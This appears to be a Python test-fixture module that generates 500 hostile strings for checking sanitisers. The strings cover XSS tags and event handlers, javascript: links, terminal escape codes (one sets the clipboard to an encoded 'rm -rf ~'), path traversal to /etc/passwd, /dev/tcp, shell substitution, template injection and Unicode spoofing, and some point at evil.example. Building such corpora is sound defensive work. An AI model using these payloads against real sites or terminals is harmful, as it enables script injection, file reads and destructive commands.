"""Hostile texts in seven families; each tells a browser that runs it by `canary`, and a terminal that obeys it by its control characters."""

from __future__ import annotations

from typing import Final

COUNT: Final = 500
_RUN: Final = "canary('{n}')"
_SCRIPT: Final = (
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    "<ScRiPt src=data:text/javascript,{run}></sCrIpT>",
    "</title></textarea></style><script>{run}</script>",
    "<script type=module>{run}</script>",
    "<!--<script>--><script>{run}</script>",
    "]]><script>{run}</script>",
    "<svg><script>{run}</script></svg>",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
)
_MARKUP: Final = (
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'>",
    "<details open ontoggle={run}>x",
    "<input autofocus onfocus={run}>",
    "<body onload={run}>",
    "<video><source onerror={run}></video>",
    "<style>@import 'javascript:{run}'</style>",
    "<base href=//evil.example/><form action=//evil.example><button autofocus>go",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<math><mtext><style><img src=x onerror={run}>",
    '" onmouseover="{run}" autofocus onfocus="{run}" x="',
    "' onfocus='{run}' autofocus tabindex=1 x='",
    "` onerror={run} `",
    "<object data='javascript:{run}'></object>",
)
_LINKS: Final = (
    "javascript:{run}",
    "[a](javascript:{run})",
    "<a href=javascript:{run}>a</a>",
    "<a href='data:text/html,<script>{run}</script>'>a</a>",
    "vbscript:{run}",
    "java\tscript:{run}",
    "//evil.example/{n}",
    "http://evil.example/{n}?q=<script>{run}</script>",
)
_TERMINAL: Final = (
    "\x1b[2J\x1b[H{n}",
    "\x1b]0;{n}\x07",
    "\x1b]8;;http://evil.example/{n}\x1b\\a\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4=\x07{n}",
    "\x9b31m{n}",
    "\x90q{n}\x9c",
    "a\b\b\b{n}",
    "line\rover{n}",
    "\x1b[?1049h{n}",
    "\x00\x01\x02\x7f{n}",
    "\x1bP+q544e\x1b\\{n}",
    "\x0e\x0f{n}\x85\x8d",
)
_PATHS: Final = (
    "../../../../etc/passwd\x00{n}",
    "..\\..\\{n}",
    "/dev/tcp/{n}",
    "file:///etc/passwd#{n}",
    "%2e%2e%2f{n}",
    "~root/{n}",
    "CON{n}.txt",
)
_TEMPLATES: Final = (
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "{{% raw %}}{run}{{% endraw %}}",
    "$title $style $script {n}",
    "%(script)s {n}",
    "{{0.__class__}} {n}",
    "[bold red]{n}[/bold red][link=http://evil.example]x[/link]",
    "`rm -rf {n}` $(id) ;{n}",
)
_UNICODE: Final = (
    "\u202e{n}txt.exe",
    "\u2066{n}\u2069\u2067",
    "\u200f\u200e{n}",
    "\u2028{run}\u2029",
    "\ufeff<script>{run}</script>",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\U000e0041\U000e0042{n}",
    "\u061c{n}",
)  # fmt: skip
FAMILIES: Final = {
    "script": _SCRIPT, "markup": _MARKUP, "link": _LINKS, "terminal": _TERMINAL, "path": _PATHS, "template": _TEMPLATES,
    "unicode": _UNICODE,
}  # fmt: skip


def payloads() -> list[tuple[str, str]]:
    """`COUNT` texts with their families, each with a number of its own; the same ones every time."""
    forms = [(family, form) for family, some in FAMILIES.items() for form in some]
    found: list[tuple[str, str]] = []
    for number in range(COUNT):
        family, form = forms[number % len(forms)]
        turn = number // len(forms)
        name = f"p{number}"
        body = form.format(run=_RUN.format(n=name), n=name)
        found.append(
            (
                family,
                (
                    body,
                    f"x{body}",
                    f"{body}\n{body}",
                    f"\"'>{body}",
                    f"--> {body} <!--",
                    f"</pre></code>{body}",
                    body * 3,
                )[turn % 7],
            )
        )
    return found
